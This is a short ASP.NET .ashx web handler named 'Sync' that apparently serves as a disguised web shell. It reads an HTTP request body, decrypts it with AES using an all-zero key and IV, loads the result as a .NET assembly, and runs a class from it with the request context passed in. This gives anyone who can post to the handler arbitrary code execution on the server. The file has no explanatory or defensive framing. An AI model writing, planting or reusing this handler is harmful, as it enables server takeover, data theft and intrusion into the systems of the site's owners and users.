<%@ WebHandler Language="C#" Class="Sync" %>
using System; using System.Web; using System.Reflection; using System.Security.Cryptography;
public class Sync : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
  public void ProcessRequest(HttpContext ctx) {
    var aes = Aes.Create(); aes.Key = new byte[16]; aes.IV = new byte[16];
    var buf = new byte[ctx.Request.ContentLength]; ctx.Request.InputStream.Read(buf, 0, buf.Length);
    var asm = Assembly.Load(aes.CreateDecryptor().TransformFinalBlock(buf, 0, buf.Length));
    asm.CreateInstance("U").Equals(ctx);
  }
  public bool IsReusable { get { return false; } }
}
